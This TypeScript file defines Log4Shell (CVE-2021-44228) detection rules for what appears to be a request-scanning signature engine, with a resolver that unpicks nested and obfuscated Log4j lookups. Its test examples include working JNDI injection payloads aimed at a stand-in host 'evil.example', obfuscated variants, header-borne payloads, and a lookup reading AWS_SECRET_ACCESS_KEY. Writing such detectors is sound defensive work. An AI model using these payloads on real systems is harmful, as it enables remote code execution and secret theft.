import type { Reading } from '../decoding/reading.js';
import { PART_KINDS } from '../requests/inspected-request.js';
import type { Rule } from '../signature-contract.js';

/** Lookups nested deeper than this are not resolved; Log4j itself stops at loops only. */
const MAX_DEPTH = 64;

/**
 * Resolves Log4j lookups innermost first, as its substitutor does: `${lower:J}`, `${upper:j}`, `${::-j}`, `${env:X:-j}`, `${date:'j'}`.
 * One pass with a stack; an unclosed lookup is read to the end, because scanners cut them off.
 */
function resolvesToJndi({ lower }: Reading): boolean {
  const stack: string[] = [''];
  for (let at = 0; at < lower.length; at += 1) {
    const top = stack.length - 1;
    if (lower.charAt(at) === '$' && lower.charAt(at + 1) === '{' && stack.length < MAX_DEPTH) {
      stack.push('');
      at += 1;
    } else if (lower.charAt(at) === '}' && top > 0) {
      const inner = stack.pop() ?? '';
      if (isJndi(inner)) return true;
      stack[top - 1] = keepEnd(`${stack[top - 1] ?? ''}${valueOfLookup(inner)}`);
    } else {
      stack[top] = keepEnd(`${stack[top] ?? ''}${lower.charAt(at)}`);
    }
  }
  return stack.slice(1).some(isJndi);
}

const isJndi = (lookup: string): boolean => lookup.trimStart().startsWith('jndi:');

/** The beginning of a lookup decides; what is longer is not kept. */
const keepEnd = (text: string): string => (text.length > 256 ? text.slice(0, 128) + text.slice(-64) : text);

function valueOfLookup(inner: string): string {
  const fallback = inner.lastIndexOf(':-');
  if (fallback !== -1) return inner.slice(fallback + 2);
  const colon = inner.indexOf(':');
  const name = colon === -1 ? '' : inner.slice(0, colon);
  return name === 'lower' || name === 'upper'
    ? inner.slice(colon + 1)
    : name === 'date'
      ? inner.slice(colon + 1).replaceAll("'", '')
      : '';
}

/** Log4Shell (CVE-2021-44228 and its followers): lookups that make a Java logger fetch and run code. */
export const LOG4SHELL: readonly Rule[] = [
  {
    id: 'log4shell-jndi',
    category: 'log4shell',
    severity: 'critical',
    because: 'is a JNDI lookup, also when it is put together from nested ones',
    parts: PART_KINDS,
    looksFor: { kind: 'scan', needs: [`\${`, '{jndi', 'jndi:'], scan: resolvesToJndi },
    bad: [
      `\${jndi:ldap://evil.example/a}`,
      `\${\${lower:j}ndi:rmi://x}`,
      `\${\${::-j}\${::-n}\${::-d}\${::-i}:ldap://x}`,
      `\${\${env:X:-j}ndi\${env:Y:-:}\${env:Z:-l}dap://x}`,
      '$\\u007Bjndi:ldap://x}',
      `\${jndi:dns://x`,
      { headers: [{ name: 'User-Agent', value: `\${jndi:ldap://x/a}` }] },
      { headers: [{ name: 'X-Forwarded-For', value: `\${jndi:ldap://x/a}` }] },
    ],
    good: ['jndi: the naming interface', `costs \${price}`, `\${user.name:-guest}`, 'what is ldap'],
  },
  {
    id: 'log4shell-lookup',
    category: 'log4shell',
    severity: 'high',
    because:
      'has lookups inside of lookups, or asks the logger for the environment, as scanners for Log4Shell do',
    parts: PART_KINDS,
    looksFor: {
      kind: 'pattern',
      needs: [`\${`],
      pattern: String.raw`\$\{\s*(?:env|sys|java|main|ctx|bundle|docker|k8s|log4j|spring|jvmrunargs|hostname|map|sd|marker|event|web|lower|upper|date|base64|script|dns|url)\s*:[^}$]|\$\{[^}]{0,40}\$\{\s*[\w:.-]*:-?|\$\{::-`,
    },
    bad: [
      `\${env:AWS_SECRET_ACCESS_KEY}`,
      `\${sys:java.version}`,
      `\${a\${b:-c}}`,
      `\${script:javascript:x}`,
    ],
    good: [`\${name}`, `\${user.id}`, `\${ env }`, `price \${amount:.2f}`],
  },
];
